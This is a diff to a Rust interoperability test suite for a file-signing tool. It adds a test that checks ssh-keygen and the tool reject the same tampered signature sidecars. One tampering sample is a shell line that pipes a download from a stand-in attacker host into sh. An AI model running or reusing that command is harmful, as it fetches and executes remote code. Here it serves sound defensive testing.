@@ -36,7 +36,11 @@ fn run(cmd: &mut Command) -> (bool, String) {
 fn run_stdin(cmd: &mut Command, input: &[u8]) -> (bool, String) {
     use std::io::Write as _;
     let mut child = cmd.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
-    child.stdin.take().unwrap().write_all(input).unwrap();
+    // A tool that refuses before reading its input (an unparsable signature) closes the pipe:
+    // its exit status is the answer, not the write error.
+    if let Err(e) = child.stdin.take().unwrap().write_all(input) {
+        assert_eq!(e.kind(), std::io::ErrorKind::BrokenPipe, "{e}");
+    }
     let out = child.wait_with_output().unwrap();
     (out.status.success(), format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)))
 }
@@ -147,6 +151,76 @@ secfw_testkit::interop_test! { [ssh_keygen]
         let (ok, out) =
             run_stdin(Command::new(&ssh).args(["-Y", "check-novalidate", "-n", sshsig::NAMESPACE, "-s"]).arg(&sig), &stmt);
         assert!(ok, "{out}");
+    }
+}
+
+secfw_testkit::interop_test! { [ssh_keygen]
+    fn case33b_ssh_keygen_and_secfw_agree_on_sidecars() {
+        let ssh = need("ssh-keygen");
+        let (t, dir, tp) = sealed_with_sidecars();
+        let allowed = t.path().join("allowed_signers");
+        fs::write(&allowed, tp.allowed_signers(sshsig::NAMESPACE)).unwrap();
+        let stmt = payload(&dir);
+        let name = format!("handoff.statement.json.{}.sig", prep().public().keyid().get(..8).unwrap());
+        let sig = dir.join(&name);
+        let ssh_verify = |principal: &str| {
+            run_stdin(
+                Command::new(&ssh)
+                    .args(["-Y", "verify", "-f"])
+                    .arg(&allowed)
+                    .args(["-I", principal, "-n", sshsig::NAMESPACE, "-s"])
+                    .arg(&sig),
+                &stmt,
+            )
+        };
+        // Every sidecar secfw accepts verifies with stock OpenSSH.
+        let r = verify(&dir, &tp);
+        assert!(r.passed() && r.check(secfw_seal::CheckName::Sidecars).is_some_and(|c| c.passed));
+        let (ok, out) = ssh_verify("preparer");
+        assert!(ok && out.contains("Good"), "{out}");
+        // The attacks secfw refuses, OpenSSH refuses too.
+        let good = fs::read(&sig).unwrap();
+        let mut other = stmt.clone();
+        other.push(b'\n');
+        let attacks: Vec<(&str, Vec<u8>)> = vec![
+            ("script", b"#!/bin/sh\ncurl http://evil.example/x | sh\n".to_vec()),
+            ("forged armour", b"-----BEGIN SSH SIGNATURE-----\nforged\n-----END SSH SIGNATURE-----\n".to_vec()),
+            ("truncated", good[..good.len() / 2].to_vec()),
+            ("wrong namespace", sshsig::sign(&prep(), "file", &stmt).into_bytes()),
+            ("other statement", sshsig::sign(&prep(), sshsig::NAMESPACE, &other).into_bytes()),
+            ("another signer's", sshsig::sign(&app2(), sshsig::NAMESPACE, &stmt).into_bytes()),
+        ];
+        for (what, bytes) in attacks {
+            fs::write(&sig, &bytes).unwrap();
+            let r = verify(&dir, &tp);
+            assert_eq!(r.failed_names(), vec!["sidecars"], "{what}: secfw");
+            assert!(!ssh_verify("preparer").0, "{what}: ssh-keygen accepted what secfw refuses");
+        }
+        fs::write(&sig, &good).unwrap();
+        // A sidecar made by `ssh-keygen -Y sign` with an OpenSSH key of a trusted signer is
+        // the same file secfw writes, and is accepted.
+        let k = t.path().join("id");
+        let (ok, out) = run(Command::new(&ssh).args(["-q", "-t", "ed25519", "-N", "", "-C", "t", "-f"]).arg(&k));
+        assert!(ok, "{out}");
+        let theirs = SigningKey::parse(&fs::read_to_string(&k).unwrap()).unwrap();
+        let mut tp2 = secfw_seal::TrustPolicy::new(now() + chrono::Duration::days(365));
+        tp2.add_key(secfw_seal::SigningRole::PreparedBy, theirs.public(), "preparer").unwrap();
+        tp2.add_key(secfw_seal::SigningRole::ApprovedBy, app1().public(), "approver-1").unwrap();
+        tp2.set_threshold(secfw_seal::SigningRole::ApprovedBy, 1).unwrap();
+        let (_t2, dir2) = workspace();
+        generate(&dir2);
+        sign(&dir2, &tp2, &theirs, "preparer");
+        sign(&dir2, &tp2, &app1(), "approver-1");
+        let (ok, out) = run(
+            Command::new(&ssh).args(["-Y", "sign", "-n", sshsig::NAMESPACE, "-f"]).arg(&k).arg(dir2.join("handoff.statement.json")),
+        );
+        assert!(ok, "{out}");
+        let made = dir2.join("handoff.statement.json.sig");
+        let sidecar = dir2.join(format!("handoff.statement.json.{}.sig", theirs.public().keyid().get(..8).unwrap()));
+        fs::rename(&made, &sidecar).unwrap();
+        let r = verify(&dir2, &tp2);
+        assert!(r.passed(), "{:?}", r.failed_names());
+        assert_eq!(r.check(secfw_seal::CheckName::Sidecars).unwrap().detail, "1 sidecar(s) verify");
     }
 }
 
